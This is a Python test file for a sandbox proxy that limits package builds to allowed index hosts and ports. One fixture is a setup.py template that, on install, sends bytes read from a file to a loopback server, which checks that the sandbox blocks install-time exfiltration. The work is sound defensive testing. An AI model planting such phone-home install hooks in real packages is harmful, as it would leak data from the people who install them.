"""The environment's build reaches the package index and nothing else (shared/isolation/index_proxy.py), tried by a
real program through the real wrapper in a network namespace of its own: an allowed host:port answers through the
proxy (CONNECT and absolute-form), another host or port is refused with 403 and recorded, and a direct connection to
the same server, which the control outside the sandbox makes, finds no network at all. Then a project's setup.py,
run by a real environment build, tries to send what it can read to a server on the host: only the weaker mode
([env] index_hosts empty, Landlock's port rule alone) lets it through."""
from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from shared.environment import project_env
from shared.isolation.index_proxy import IndexProxy, index_hosts
from shared.isolation.policy import sandbox_argv
from shared.workspace import Workspace
from tests.helpers.workspaces import example, git, set_config
from tests.shared.test_network_relay import needs_netns

PROBE = r'''
import json, socket, sys
port, proxy = int(sys.argv[1]), int(sys.argv[2])
said = {}

def through_proxy(request):
    try:
        with socket.create_connection(("127.0.0.1", proxy), timeout=5) as link:
            link.sendall(request)
            data = b""
            while chunk := link.recv(4096):
                data += chunk
            return data.decode(errors="replace")
    except OSError as exc:
        return "error: " + type(exc).__name__

said["connect_allowed"] = through_proxy(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: x\r\n\r\nPING\n".encode())
said["absolute_allowed"] = through_proxy(f"GET http://127.0.0.1:{port}/x HTTP/1.1\r\nHost: x\r\n\r\n".encode())
said["connect_other_port"] = through_proxy(f"CONNECT 127.0.0.1:{port + 1} HTTP/1.1\r\n\r\n".encode())
said["connect_other_host"] = through_proxy(b"CONNECT example.org:443 HTTP/1.1\r\n\r\n")
try:
    socket.create_connection(("127.0.0.1", port), timeout=3).close()
    said["direct"] = "connected"
except OSError as exc:
    said["direct"] = "error: " + type(exc).__name__
try:
    socket.getaddrinfo("pypi.org", 443)
    said["dns"] = "resolved"
except OSError as exc:
    said["dns"] = "error: " + type(exc).__name__
print(json.dumps(said))
'''


@pytest.fixture
def echo_server() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on the host's loopback: answers every connection with what it first read, and keeps it."""
    server = socket.create_server(("127.0.0.1", 0))
    heard: list[bytes] = []

    def serve() -> None:
        while True:
            try:
                link, _ = server.accept()
            except OSError:
                return
            with link:
                link.settimeout(3)
                try:
                    data = link.recv(4096)
                except OSError:
                    continue
                heard.append(data)
                link.sendall(b"ECHO " + data)

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], heard
    server.close()


@pytest.mark.landlock
@needs_netns
def test_a_build_reaches_the_allowed_host_and_port_through_the_proxy_and_nothing_else(
        tmp_path: Path, echo_server: tuple[int, list[bytes]]) -> None:
    port, heard = echo_server
    ws = example(tmp_path, backend="landlock")
    (tmp_path / "probe.py").write_text(PROBE)
    with IndexProxy(["127.0.0.1"], [port]) as proxy:
        argv = sandbox_argv(ws, (sys.executable, str(tmp_path / "probe.py"), str(port), str(proxy.relay[1])),
                            [tmp_path / "scratch"], gateway_relay=proxy.relay)
        (tmp_path / "scratch").mkdir()
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60, cwd=tmp_path)
        refused = list(proxy.refused)
    assert done.returncode == 0, done.stderr
    said = json.loads(done.stdout)
    assert said["connect_allowed"].startswith("HTTP/1.1 200 Connection established") and "ECHO PING" in \
        said["connect_allowed"], said
    assert "ECHO GET http://127.0.0.1" in said["absolute_allowed"], said  # passed on as it came
    assert said["connect_other_port"].startswith("HTTP/1.1 403") and said["connect_other_host"].startswith("HTTP/1.1 403")
    assert refused == [f"127.0.0.1:{port + 1}", "example.org:443"], refused
    assert said["direct"].startswith("error") and said["dns"].startswith("error"), said
    assert len(heard) == 2  # the two allowed requests, and nothing direct
    control = subprocess.run((sys.executable, str(tmp_path / "probe.py"), str(port), "1"), capture_output=True,
                             text=True, timeout=60)
    assert json.loads(control.stdout)["direct"] == "connected"  # the control: outside, the server is right there


def test_the_index_hosts_come_from_config_and_from_pip_and_uv_settings(tmp_path: Path) -> None:
    pip_conf = tmp_path / "pip.conf"
    pip_conf.write_text("[global]\nindex-url = https://pypi.example.org/simple\n"
                        "extra-index-url = https://a.example.org/simple file:///opt/pypi/simple\n")
    uv_toml = tmp_path / "uv.toml"
    uv_toml.write_text('[[index]]\nname = "corp"\nurl = "https://uv.example.org/simple"\n')
    environ = {"PIP_CONFIG_FILE": str(pip_conf), "UV_CONFIG_FILE": str(uv_toml),
               "UV_INDEX": "mine=https://env.example.org/simple"}
    found = index_hosts(["PyPI.org."], environ)
    assert {"pypi.org", "pypi.example.org", "a.example.org", "uv.example.org", "env.example.org"} <= found
    proxy = IndexProxy([".example.org"], [443])
    with proxy:
        assert proxy.allowed("files.example.org", 443) and not proxy.allowed("example.org.evil", 443)
        assert not proxy.allowed("files.example.org", 22)


SETUP = '''import json, os, socket
said = {{}}
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"EXFILTRATED " + open("setup.py", "rb").read()[:20])
    said["direct"] = "sent"
except OSError as exc:
    said["direct"] = type(exc).__name__
from setuptools import setup
setup(name="textkit", version="0.1", packages=[], description="reached: " + json.dumps(said))
'''


@pytest.mark.slow
@pytest.mark.landlock
@needs_netns
@pytest.mark.parametrize("hosts", ["default", "any host"])
def test_a_projects_setup_py_reaches_no_host_but_the_index(tmp_path: Path, echo_server: tuple[int, list[bytes]],
                                                            hosts: str) -> None:
    """The setup.py runs (the project is installed for its metadata) and tries a server on the host's loopback, on a
    port the build may use. By default nothing reaches it; with index_hosts empty (the weaker mode, the control) the
    port rule alone lets it through."""
    port, heard = echo_server
    ws = example(tmp_path / "w", backend="landlock")
    extra = f"[env]\nindex_ports = [443, 80, {port}]\n" + ("index_hosts = []\n" if hosts == "any host" else "")
    set_config(ws.root, extra=extra)
    (ws.code / "setup.py").write_text(SETUP.format(port=port))
    (ws.code / "requirements.txt").write_text("iniconfig\n")
    git(ws.code, "add", "setup.py", "requirements.txt")
    git(ws.code, "commit", "-qm", "a setup.py that phones home")
    ws = Workspace.open(ws.root)
    env = project_env(ws, "plan", ws.code_repo(), git(ws.code, "rev-parse", "HEAD"), ws.code)
    [metadata] = list(Path(env.python).parents[1].glob("lib/python*/site-packages/textkit-*.dist-info/METADATA"))
    summary = next(line for line in metadata.read_text().splitlines() if line.startswith("Summary:"))
    if hosts == "default":
        assert '"direct": "sent"' not in summary and not heard, (summary, heard)
    else:
        assert '"direct": "sent"' in summary and heard and heard[0].startswith(b"EXFILTRATED"), (summary, heard)


def test_a_flood_of_idle_connections_is_bounded_and_the_proxy_still_serves(echo_server: tuple[int, list[bytes]]) -> None:
    """A build is code nobody vouches for: connections that never send a head hold at most MAX_CONNECTIONS threads of
    the role's process; the rest are closed at once, and a real request still gets through once they are gone."""
    import shared.isolation.index_proxy as index_proxy

    port, heard = echo_server
    with IndexProxy(["127.0.0.1"], [port]) as proxy:
        before = threading.active_count()
        idle = []
        for _ in range(index_proxy.MAX_CONNECTIONS * 3):
            link = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            link.connect(str(proxy.socket_path))
            idle.append(link)
        refused = 0
        for link in idle[index_proxy.MAX_CONNECTIONS + 8:]:  # accepted after the slots were full: closed unanswered
            link.settimeout(5)
            refused += link.recv(1) == b""
        assert refused == len(idle) - index_proxy.MAX_CONNECTIONS - 8
        assert threading.active_count() - before <= index_proxy.MAX_CONNECTIONS
        for link in idle:
            link.close()
        for _ in range(50):  # the held slots come back as their clients go
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as link:
                    link.connect(str(proxy.socket_path))
                    link.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\nHELLO".encode())
                    link.settimeout(5)
                    answer = link.recv(4096)
                    answer += link.recv(4096) if b"ECHO" not in answer else b""
                if b"ECHO HELLO" in answer:
                    break
            except OSError:
                pass
            time.sleep(0.1)
        else:
            raise AssertionError("the proxy served nothing after the flood")
